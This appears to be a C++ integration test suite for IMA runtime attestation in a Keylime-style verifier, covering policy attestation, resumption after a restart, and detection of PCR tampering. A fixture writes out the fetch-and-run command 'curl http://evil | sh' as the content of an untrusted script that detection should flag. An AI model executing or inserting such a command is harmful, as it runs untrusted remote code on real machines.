// IMA runtime attestation end to end: real keylime_verifier and keylime_registrar processes, an agent on swtpm
// whose PCR 10 is extended for every IMA measurement it logs, tenant requests over mTLS, SQLite. The seed story:
// attests against a policy made from its own log, survives a verifier restart without replaying the log, then an
// untrusted /root/evil.sh is measured and the verifier fails it and tells the other agents.
#include <catch2/catch.hpp>

#include <nlohmann/json.hpp>

#include "agent/agent_server.hpp"
#include "agent/evidence_logs.hpp"
#include "agent/software_agent.hpp"
#include "agent/tpm_agent.hpp"
#include "common/attest/crypto/bytes.hpp"
#include "common/service/storage/verifier_store.hpp"
#include "integration/verifier/deployment.hpp"
#include "support/swtpm.hpp"

using nlohmann::json;
using namespace std::chrono_literals;
using namespace kl::itest;
using kl::testing::ima_ng_line;

TEST_CASE("IMA: attests against its own log's policy, resumes after a verifier restart, fails /root/evil.sh") {
  REQUIRE(kl::testing::Swtpm::available());
  Deployment d;
  kl::testing::Swtpm swtpm;
  kl::testing::TpmAgent tpm(swtpm.tcti());
  kl::testing::AgentServerOptions ao;
  ao.uuid = "ima-agent-1";
  ao.trusted_client_ca_file = d.cacert();
  kl::testing::AgentServer agent(ao, tpm);
  agent.start();
  REQUIRE(d.register_agent(tpm, ao.uuid, agent).ok());

  // A second agent that only listens for revocations.
  kl::testing::SoftwareAgent other_id;
  kl::testing::AgentServerOptions bo;
  bo.uuid = "bystander-1";
  bo.trusted_client_ca_file = d.cacert();
  kl::testing::AgentServer other(bo, other_id);
  other.start();
  REQUIRE(d.register_agent(other_id, bo.uuid, other).ok());

  // The boot: the kernel logs boot_aggregate and a few files (and extends PCR 10 for each).
  const std::vector<kl::testing::ImaLine> boot = {ima_ng_line("boot_aggregate", "boot"),
                                                  ima_ng_line("/usr/bin/bash", "bash"),
                                                  ima_ng_line("/usr/lib64/libc.so.6", "libc"),
                                                  ima_ng_line("/usr/sbin/sshd", "sshd")};
  for (const auto& l : boot) agent.measure(l);
  // The runtime policy from the golden image: what it logged, plus a tool it will run later.
  const auto later = ima_ng_line("/usr/bin/ls", "ls");
  auto allowed = boot;
  allowed.push_back(later);
  const std::string policy_text = kl::testing::runtime_policy_for(allowed).dump();

  auto tenant = d.tenant();
  json body = add_body(tpm, agent.port(), agent.mtls_cert_pem(), "{\"mask\": \"0x400\"}");
  body["runtime_policy"] = kl::base64_encode(kl::as_bytes(policy_text));
  auto r = tenant.request("POST", "/v2.6/agents/" + ao.uuid, body.dump());
  INFO(r.body);
  REQUIRE(r.status == 200);
  r = tenant.request("POST", "/v2.6/agents/" + bo.uuid, add_body(other_id, other.port(), other.mtls_cert_pem()).dump());
  REQUIRE(r.status == 200);

  INFO(d.verifier->log());
  REQUIRE(eventually([&] { return attestation_count(tenant, ao.uuid) >= 3; }, 30s));
  json s = agent_status(tenant, ao.uuid);
  CHECK(s["operational_state"] == 3);
  CHECK(s["has_runtime_policy"] == 1);
  // Incremental: after the first full replay the verifier asks for the entries after the 4 it has seen.
  auto asked = agent.api().ima_entries_requested();
  REQUIRE(asked.size() >= 3);
  CHECK(asked.front() == 0);
  CHECK(asked.back() == 4);

  // The state is in upstream's columns.
  {
    auto store = kl::storage::open_verifier_store("sqlite", d.kl_dir());
    const auto row = store->find_agent(ao.uuid);
    REQUIRE(row);
    CHECK(row->next_ima_ml_entry == 4);
    CHECK(row->ima_pcrs == "[10]");
    REQUIRE(row->pcr10);
    CHECK(row->pcr10->size() == 32);
    CHECK(row->boottime.value_or(0) > 0);
    CHECK(row->learned_ima_keyrings == "{}");
  }

  // Restart the verifier while the agent logs another (allowed) file: it resumes from entry 4.
  d.verifier->terminate();
  agent.measure(later);
  const std::size_t before = agent.api().ima_entries_requested().size();
  d.start_verifier();
  auto tenant2 = d.tenant();
  const long long count = attestation_count(tenant2, ao.uuid);
  REQUIRE(eventually([&] { return attestation_count(tenant2, ao.uuid) >= count + 2; }, 30s));
  asked = agent.api().ima_entries_requested();
  REQUIRE(asked.size() > before);
  CHECK(asked[before] == 4);    // the first poll after the restart continues where the stored state ends
  CHECK(asked.back() == 5);

  // The attack: an untrusted script is measured.
  agent.measure(ima_ng_line("/root/evil.sh", "curl http://evil | sh"));
  REQUIRE(eventually([&] { return agent_status(tenant2, ao.uuid)["operational_state"] == 9; }, 30s));
  s = agent_status(tenant2, ao.uuid);
  CHECK(s["last_event_id"] == "ima.validation.ima-ng.not_in_allowlist");
  CHECK(s["attestation_status"] == "FAIL");
  CHECK(d.verifier->log().find("File not found in allowlist: /root/evil.sh") != std::string::npos);
  // The other agent is told.
  REQUIRE(eventually([&] { return !other.api().revocations().empty(); }, 20s));
  const json msg = json::parse(other.api().revocations().at(0)["msg"].get<std::string>());
  CHECK(msg["type"] == "revocation");
  CHECK(msg["agent_id"] == ao.uuid);
  CHECK(msg["event_id"] == "ima.validation.ima-ng.not_in_allowlist");
  CHECK(json::parse(msg["context"].get<std::string>())["message"] == "File not found in allowlist: /root/evil.sh");
  CHECK(agent_status(tenant2, bo.uuid)["operational_state"] == 3);
}

TEST_CASE("IMA: PCR 10 extended behind the log's back fails with ima.pcr_mismatch") {
  Deployment d;
  kl::testing::SoftwareAgent id;
  kl::testing::AgentServerOptions ao;
  ao.uuid = "ima-agent-2";
  ao.trusted_client_ca_file = d.cacert();
  kl::testing::AgentServer agent(ao, id);
  agent.start();
  REQUIRE(d.register_agent(id, ao.uuid, agent).ok());
  const std::vector<kl::testing::ImaLine> boot = {ima_ng_line("boot_aggregate", "boot"),
                                                  ima_ng_line("/usr/bin/bash", "bash")};
  for (const auto& l : boot) agent.measure(l);
  auto tenant = d.tenant();
  json body = add_body(id, agent.port(), agent.mtls_cert_pem(), "{\"mask\": \"0x400\"}");
  body["runtime_policy"] = kl::base64_encode(kl::as_bytes(kl::testing::runtime_policy_for(boot).dump()));
  REQUIRE(tenant.request("POST", "/v2.6/agents/" + ao.uuid, body.dump()).status == 200);
  INFO(d.verifier->log());
  REQUIRE(eventually([&] { return attestation_count(tenant, ao.uuid) >= 2; }));
  agent.pcr_extend(10, kl::Bytes(32, 0x66));   // measured, but hidden from the log
  REQUIRE(eventually([&] { return agent_status(tenant, ao.uuid)["operational_state"] == 9; }));
  CHECK(agent_status(tenant, ao.uuid)["last_event_id"] == "ima.pcr_mismatch");
}
